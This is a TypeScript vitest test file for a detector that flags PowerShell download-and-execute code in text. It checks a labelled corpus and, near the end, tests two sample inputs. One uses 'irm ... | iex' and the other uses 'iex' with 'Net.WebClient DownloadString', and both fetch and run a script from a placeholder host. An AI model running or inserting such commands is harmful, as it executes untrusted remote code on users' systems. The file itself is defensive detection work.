import { readFileSync } from "node:fs";
import { beforeAll, describe, expect, it } from "vitest";
import type { Detector } from "../../src/core/index.js";
import type { Span } from "../../src/core/model.js";
import { sharedDetector, unknownRules } from "../support/marked.js";
import { mark } from "../contract/case-file.js";

interface Row {
  readonly text: string;
  readonly labels: readonly string[];
  /** The expected spans. They are empty for a row with a label if the span is not specified. */
  readonly spans: readonly Span[];
  readonly notes: string;
  readonly case: string;
  readonly provenance: string;
}

const SET = "extended.v1";
const read = (path: string): string => readFileSync(new URL(path, import.meta.url), "utf8");
const linesOf = (path: string): string[] =>
  read(path)
    .trimEnd()
    .split("\n")
    .filter((line) => line !== "");

const rows = linesOf(`../../corpora/${SET}.jsonl`).map((line) => JSON.parse(line) as Row);
const expected = JSON.parse(read("../../corpora/expected.extended.json")) as Record<
  string,
  unknown
>;
/** The names of the cases whose results are known to differ from the expectation. */
const notYet = linesOf("not-yet.txt");

let detector: Detector;
beforeAll(async () => {
  detector = await sharedDetector("extended");
});

const isOpen = ({ labels, spans }: Row): boolean => labels.length > 0 && spans.length === 0;

/** Returns the result and the expectation for a row, each as labels and a marked text. */
function compared(row: Row): { readonly found: unknown; readonly wanted: unknown } {
  const { labels, spans } = detector.detect(row.text);
  const marked = (own: readonly Span[]): string => mark(row.text, isOpen(row) ? [] : own);
  return {
    found: { labels, marked: marked(spans) },
    wanted: { labels: row.labels, marked: marked(row.spans) },
  };
}

describe("the rows of the extended corpus", () => {
  it("are well-formed", () => {
    expect(new Set(rows.map((row) => row.case)).size).toBe(rows.length);
    expect(new Set(rows.map(({ text }) => text)).size).toBe(rows.length);
    for (const { text, labels, spans, notes, provenance } of rows) {
      expect(provenance).toBe("authored with the project");
      expect(notes).not.toBe("");
      expect(["", "PS"]).toContain(labels.join());
      if (labels.length === 0) expect(spans).toEqual([]);
      for (const [start, end] of spans) expect(start < end && end <= text.length).toBe(true);
    }
  });

  it("use only existing rules in findings", () => {
    const unknown = rows.filter(
      ({ text }) => unknownRules(detector, detector.detect(text).findings).length > 0,
    );
    expect(unknown.map((row) => row.case)).toEqual([]);
  });

  it("have the expected totals by label", () => {
    const positive = rows.filter(({ labels }) => labels.length > 0).length;
    expect(expected[SET]).toEqual({
      rows: rows.length,
      PS: positive,
      none: rows.length - positive,
    });
  });

  it("contain each known gap of not-yet.txt, which lists it once", () => {
    const cases = new Set(rows.map((row) => row.case));
    expect(
      notYet.filter((name, index) => !cases.has(name) || notYet.indexOf(name) !== index),
    ).toEqual([]);
  });

  it.each(rows.filter((row) => !notYet.includes(row.case)).map((row) => [row.case, row] as const))(
    "have the expected result: %s",
    (_case, row) => {
      const { found, wanted } = compared(row);
      expect(found).toEqual(wanted);
    },
  );

  it.each(rows.filter((row) => notYet.includes(row.case)).map((row) => [row.case, row] as const))(
    "do not have the expected result if not-yet.txt lists them: %s",
    (_case, row) => {
      const { found, wanted } = compared(row);
      expect(found).not.toEqual(wanted);
    },
  );
});

describe("the outcome for PowerShell code", () => {
  const nested = `${"(".repeat(200)}irm https://x.example/i | iex${")".repeat(200)}`;
  const installer = `@"%SystemRoot%\\powershell.exe" -Command "iex ((New-Object Net.WebClient).DownloadString('https://x.example/i.ps1'))"`;
  it.each([
    [
      "is incomplete if brackets are nested too deeply",
      `\`\`\`powershell\n${nested}\n\`\`\`\n`,
      ["depth", "syntax"],
    ],
    [
      "is complete if the grammar of another language reads the code",
      `\`\`\`cmd\n${installer}\n\`\`\`\n`,
      [],
    ],
  ])("%s", (_name, text, limits) => {
    const { labels, outcome } = detector.detect(text);
    expect(labels).toEqual(["PS"]);
    expect(outcome.status === "incomplete" ? outcome.limits.map(({ limit }) => limit) : []).toEqual(
      limits,
    );
  });
});
